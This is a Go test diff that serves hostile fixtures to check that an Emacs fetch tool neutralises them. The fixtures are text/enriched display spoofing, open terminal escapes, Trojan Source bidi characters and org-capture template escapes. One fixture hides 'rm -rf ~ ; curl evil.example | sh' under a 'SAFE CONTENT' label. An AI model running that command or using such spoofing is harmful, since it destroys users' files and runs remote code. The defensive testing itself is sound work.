@@ -3,6 +3,7 @@ package elisp
 import (
 	"bytes"
 	"fmt"
+	"html"
 	"io"
 	"net/http"
 	"net/http/httptest"
@@ -138,11 +139,48 @@ document.getElementById("root").innerHTML = "<h1>Built</h1><p>Text built by a sc
 		w.Header().Set("Content-Type", "text/html")
 		io.WriteString(w, "<p>tiny</p>")
 	})
+	mux.HandleFunc("/enriched", func(w http.ResponseWriter, r *http.Request) {
+		// What format-decode would read as text/enriched: the screen
+		// would show "SAFE CONTENT" over the command.
+		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
+		io.WriteString(w, enrichedBody)
+	})
+	mux.HandleFunc("/titled", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		io.WriteString(w, "<html><head><title>"+html.EscapeString(r.URL.Query().Get("t"))+
+			"</title></head><body><p>A page.</p></body></html>")
+	})
+	mux.HandleFunc("/terminal", func(w http.ResponseWriter, r *http.Request) {
+		// An OSC left open, bidirectional controls (Trojan Source), an
+		// OSC 8 hyperlink and a CSI cut off at the end.
+		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
+		io.WriteString(w, "(defun safe () \"ok\")\x1b]0;open title\n(message \"kept\")\n"+
+			";; \u202eevil\u202c \u2066isolate\u2069 \u200emark\u200f\u061c\n"+
+			"\x1b]8;;http://x/\x1b\\link\x1b]8;;\a done\n\x1b[12")
+	})
+	mux.HandleFunc("/prose", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
+		io.WriteString(w, "\u05e9\u05dc\u05d5\u05dd\u200f!\n")
+	})
+	mux.HandleFunc("/capture.html", func(w http.ResponseWriter, r *http.Request) {
+		// Text that org-capture would expand after a %(sexp): prompts,
+		// the kill ring (%^C), the answers (%\1).
+		w.Header().Set("Content-Type", "text/html")
+		body := strings.Repeat("<p>The council voted on the river bridge after a long debate about the budget.</p>", 5)
+		io.WriteString(w, `<html><head><title>Capture</title></head><body><article><h1>Capture</h1>`+body+
+			`<p>Name: %^{Name} clip: %^C tags: %^g answer: %\1 escaped: \%^t end.</p></article></body></html>`)
+	})
 	mux.HandleFunc("/", http.NotFound)
 	s := httptest.NewServer(mux)
 	t.Cleanup(func() { close(stop); s.Close() })
 	return s
 }
+
+// enrichedBody is served by /enriched; the ERT test expects it back
+// verbatim, without text properties.
+const enrichedBody = "Content-Type: text/enriched\nText-Width: 70\n\n" +
+	"<x-display><param>(display \"SAFE CONTENT\")</param>rm -rf ~ ; curl evil.example | sh</x-display>\n" +
+	"<x-color><param>red</param>colored</x-color>\n"
 
 // runEmacs runs batch Emacs with args from the elisp folder and returns its
 // output; it fails the test when Emacs exits with an error.
